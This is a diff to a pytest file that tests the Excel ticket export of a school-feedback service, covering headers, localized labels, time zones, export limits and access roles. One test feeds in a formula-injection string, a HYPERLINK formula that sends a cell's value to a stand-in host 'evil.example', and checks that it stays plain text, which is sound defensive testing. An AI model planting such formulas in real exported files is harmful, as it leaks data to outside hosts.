@@ -5,11 +5,14 @@ from __future__ import annotations
 import io
 from datetime import timedelta
 from typing import Any
+from zoneinfo import ZoneInfo
 
 import pytest
 from openpyxl import load_workbook
 from sqlalchemy import text
 from sqlalchemy.ext.asyncio import AsyncConnection
+
+from huixiang.services import listing as listing_service
 
 from .conftest import World
 from .helpers import assert_error, parse_time, ticket_at, walk
@@ -374,58 +377,177 @@ async def test_stats_without_token_returns_401(world: World) -> None:
 
 # ---- export -----------------------------------------------------------------------------------
 
+EXPORT = "/api/v1/exports/tickets.xlsx"
+HEADER = (
+    "编号",
+    "学校",
+    "渠道",
+    "类型",
+    "类别",
+    "紧急程度",
+    "状态",
+    "标题",
+    "内容",
+    "收集时间 (UTC+08:00)",
+    "登记期限 (UTC+08:00)",
+    "答复期限 (UTC+08:00)",
+    "是否逾期",
+    "督办",
+    "承办人",
+    "答复",
+    "答复时间 (UTC+08:00)",
+    "评价",
+)
 
-def sheet_rows(content: bytes) -> list[tuple[Any, ...]]:
+
+def sheet_of(content: bytes) -> Any:
     workbook = load_workbook(io.BytesIO(content))
     assert workbook.sheetnames == ["工单"]
-    return list(workbook["工单"].iter_rows(values_only=True))
+    return workbook["工单"]
+
+
+def sheet_rows(content: bytes) -> list[tuple[Any, ...]]:
+    return list(sheet_of(content).iter_rows(values_only=True))
+
+
+def by_header(content: bytes) -> list[dict[str, Any]]:
+    header, *rows = sheet_rows(content)
+    return [dict(zip(header, row, strict=True)) for row in rows]
 
 
 @pytest.mark.parametrize("user", ["lead1", "reg1", "insp1", "admin"])
 async def test_export_xlsx_has_header_and_one_row_per_ticket(world: World, user: str) -> None:
     made = [(await world.submit())["number"] for _ in range(3)]
-    await walk_first(world, made[0])
-    answer = await world.as_(user, "GET", "/api/v1/exports/tickets.xlsx")
+    await walk(world, made[0], "responded")
+    answer = await world.as_(user, "GET", EXPORT)
     assert answer.status_code == 200, answer.text
     assert answer.headers["content-type"].startswith(
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     )
     assert "attachment" in answer.headers["content-disposition"]
     rows = sheet_rows(answer.content)
-    assert rows[0][:4] == ("编号", "学校", "渠道", "类型")
-    assert rows[0][-3:] == ("答复", "答复时间", "评价")
+    assert rows[0] == HEADER
     assert len(rows) == 4
     assert {row[0] for row in rows[1:]} == set(made)
-    answered = next(row for row in rows if row[0] == made[0])
-    assert answered[-3] == "已处理，感谢您的反馈。"
+    answered = next(row for row in by_header(answer.content) if row["编号"] == made[0])
+    assert answered["答复"] == "已处理，感谢您的反馈。"
 
 
-async def walk_first(world: World, number: str) -> None:
-    await walk(world, number, "responded")
+async def test_export_shows_names_and_words_not_codes(world: World) -> None:
+    receipt = await world.submit(kind="complaint")
+    await walk(world, receipt["number"], "assigned")
+    await record(world, channel="parent_meeting", kind="suggestion")
+    rows = by_header((await world.as_("lead1", "GET", EXPORT)).content)
+    assigned = next(row for row in rows if row["编号"] == receipt["number"])
+    assert (assigned["学校"], assigned["渠道"], assigned["类型"], assigned["状态"]) == (
+        "第一实验小学",
+        "互联网+直通车",
+        "投诉",
+        "办理中",
+    )
+    assert (assigned["紧急程度"], assigned["是否逾期"], assigned["督办"]) == ("一般", "否", "否")
+    assert assigned["承办人"] == "hand1老师"
+    offline_row = next(row for row in rows if row["编号"] != receipt["number"])
+    assert (offline_row["渠道"], offline_row["类型"], offline_row["状态"], offline_row["承办人"]) == (
+        "家长会",
+        "建议",
+        "待登记",
+        None,
+    )
+
+
+async def test_export_rating_in_words(world: World) -> None:
+    receipt = await ticket_at(world, "responded")
+    rated = await world.client.post(
+        f"/api/v1/public/tickets/{receipt['number']}/rating",
+        json={"code": receipt["access_code"], "value": "basically_satisfied"},
+    )
+    assert rated.status_code == 200, rated.text
+    [row] = by_header((await world.as_("lead1", "GET", EXPORT)).content)
+    assert row["评价"] == "基本满意"
+
+
+async def test_export_times_are_the_bureaus_local_time_named_in_the_header(world: World) -> None:
+    receipt = await world.submit()
+    ticket = (await world.as_("lead1", "GET", f"{TICKETS}/{receipt['number']}")).json()
+    [row] = by_header((await world.as_("lead1", "GET", EXPORT)).content)
+    collected = parse_time(ticket["collected_at"]).astimezone(ZoneInfo("Asia/Shanghai"))
+    assert row["收集时间 (UTC+08:00)"] == collected.replace(tzinfo=None, microsecond=0)
+    respond_due = parse_time(receipt["respond_due_at"]).astimezone(ZoneInfo("Asia/Shanghai"))
+    assert row["答复期限 (UTC+08:00)"] == respond_due.replace(tzinfo=None, microsecond=0)
+
+
+@pytest.mark.parametrize(
+    "text_value",
+    ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=1+1", "+1+2", "-2+3", "@SUM(1,2)", "0012"],
+)
+async def test_export_text_that_looks_like_a_formula_stays_text(world: World, text_value: str) -> None:
+    await world.submit(title=text_value, content=f"{text_value} 孩子的事")
+    sheet = sheet_of((await world.as_("lead1", "GET", EXPORT)).content)
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    header = [cell.value for cell in next(sheet.iter_rows())]
+    row = [cell.value for cell in list(sheet.iter_rows())[1]]
+    assert row[header.index("标题")] == text_value
+    assert row[header.index("内容")] == f"{text_value} 孩子的事"
+
+
+async def test_export_leaves_out_characters_a_workbook_cannot_hold(
+    world: World, connection: AsyncConnection
+) -> None:
+    receipt = await world.submit()
+    await connection.execute(
+        text("UPDATE tickets SET content = :c WHERE number = :n"),
+        {"c": "菜太咸\x0b了\x1f。", "n": receipt["number"]},
+    )
+    answer = await world.as_("lead1", "GET", EXPORT)
+    assert answer.status_code == 200, answer.text
+    assert by_header(answer.content)[0]["内容"] == "菜太咸了。"
+
+
+async def test_export_header_row_is_frozen_with_filters_over_every_row(world: World) -> None:
+    for _ in range(2):
+        await world.submit()
+    sheet = sheet_of((await world.as_("lead1", "GET", EXPORT)).content)
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == "A1:R3"
 
 
 async def test_export_respects_filters(world: World) -> None:
     await world.submit(kind="praise")
     await world.submit(kind="help")
-    answer = await world.as_("lead1", "GET", "/api/v1/exports/tickets.xlsx", params={"kind": "praise"})
-    rows = sheet_rows(answer.content)
-    assert len(rows) == 2 and rows[1][3] == "praise"
+    answer = await world.as_("lead1", "GET", EXPORT, params={"kind": "praise"})
+    rows = by_header(answer.content)
+    assert [row["类型"] for row in rows] == ["表扬"]
 
 
 async def test_export_leaves_out_phone_and_keeps_content_verbatim(world: World) -> None:
     await world.submit(content="内容=1+1")
-    rows = sheet_rows((await world.as_("insp1", "GET", "/api/v1/exports/tickets.xlsx")).content)
-    assert "13812341234" not in repr(rows)
-    assert rows[1][8] == "内容=1+1"
+    content = (await world.as_("insp1", "GET", EXPORT)).content
+    assert "13812341234" not in repr(sheet_rows(content))
+    assert by_header(content)[0]["内容"] == "内容=1+1"
+
+
+async def test_export_over_the_limit_is_refused_with_the_count_never_cut(
+    world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(listing_service, "EXPORT_LIMIT", 2)
+    for kind in ("praise", "praise", "help"):
+        await world.submit(kind=kind)
+    refused = await world.as_("lead1", "GET", EXPORT)
+    assert_error(refused, 400, "3 tickets", "2", "narrow", "status")
+    at_limit = await world.as_("lead1", "GET", EXPORT, params={"kind": "praise"})
+    assert at_limit.status_code == 200, at_limit.text
+    assert len(by_header(at_limit.content)) == 2
 
 
 @pytest.mark.parametrize("user", ["hand1", "grid1"])
 async def test_export_by_handler_returns_403(world: World, user: str) -> None:
-    assert_error(await world.as_(user, "GET", "/api/v1/exports/tickets.xlsx"), 403)
+    assert_error(await world.as_(user, "GET", EXPORT), 403)
 
 
 async def test_export_without_token_returns_401(world: World) -> None:
-    assert_error(await world.client.get("/api/v1/exports/tickets.xlsx"), 401)
+    assert_error(await world.client.get(EXPORT), 401)
 
 
 # ---- notifications ----------------------------------------------------------------------------
